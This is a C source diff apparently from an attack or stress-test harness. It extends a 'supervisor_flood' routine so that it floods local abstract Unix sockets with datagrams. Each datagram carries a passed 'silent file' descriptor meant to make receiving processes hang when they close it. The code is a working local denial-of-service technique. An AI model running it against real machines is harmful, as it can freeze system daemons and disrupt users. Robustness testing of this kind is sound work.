@@ -295,6 +295,43 @@ static unsigned abstract_names(char names[NAMES][NAME])
 	return n;
 }
 
+/* Where this machine has no such files it goes without. */
+static int mount_if_can(const struct attack_options *o)
+{
+	if (mount_silent(o) < 0)
+		silent_file = -1;
+	return 0;
+}
+
+/* One byte, and the silent file: who takes it in and closes it hangs. */
+static void send_to_name(int fd, const char *name)
+{
+	struct sockaddr_un a = {.sun_family = AF_UNIX};
+	size_t len = strlen(name);
+	union {
+		char buf[CMSG_SPACE(sizeof(int))];
+		struct cmsghdr align;
+	} control = {0};
+	struct iovec iov = {"x", 1};
+	struct msghdr h = {.msg_name = &a, .msg_iov = &iov, .msg_iovlen = 1};
+	struct cmsghdr *cm;
+
+	if (len >= sizeof(a.sun_path) - 1)
+		return;
+	memcpy(a.sun_path + 1, name, len);
+	h.msg_namelen = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len);
+	if (silent_file >= 0) {
+		h.msg_control = control.buf;
+		h.msg_controllen = sizeof(control.buf);
+		cm = CMSG_FIRSTHDR(&h);
+		cm->cmsg_level = SOL_SOCKET;
+		cm->cmsg_type = SCM_RIGHTS;
+		cm->cmsg_len = CMSG_LEN(sizeof(int));
+		memcpy(CMSG_DATA(cm), &silent_file, sizeof(int));
+	}
+	ignore_result((int)sendmsg(fd, &h, MSG_DONTWAIT | MSG_NOSIGNAL));
+}
+
 /* Each gets as much as its queue holds. */
 static void supervisor_flood(const struct attack_options *o)
 {
@@ -305,16 +342,7 @@ static void supervisor_flood(const struct attack_options *o)
 		unsigned n = abstract_names(names);
 
 		for (unsigned k = 0; k < 10000 * n; k++) {
-			struct sockaddr_un a = {.sun_family = AF_UNIX};
-			size_t len = strlen(names[k % n]);
-			socklen_t size =
-				(socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len);
-
-			if (len >= sizeof(a.sun_path) - 1)
-				continue;
-			memcpy(a.sun_path + 1, names[k % n], len);
-			ignore_result((int)sendto(fd, "x", 1, MSG_DONTWAIT | MSG_NOSIGNAL,
-						  (struct sockaddr *)&a, size));
+			send_to_name(fd, names[k % n]);
 			if (k % 1024 == 0)
 				attack_begun(o);
 		}
@@ -340,6 +368,6 @@ const struct attack attacks[] = {
 	{"lists", attack_lists, NULL, attack_lists_setup, NULL},
 	{"ends", attack_ends, NULL, NULL, NULL},
 	{"places", attack_places, NULL, NULL, NULL},
-	{"supervisor_flood", supervisor_flood, NULL, NULL, NULL},
+	{"supervisor_flood", supervisor_flood, mount_if_can, NULL, NULL},
 };
 const size_t n_attacks = sizeof(attacks) / sizeof(attacks[0]);
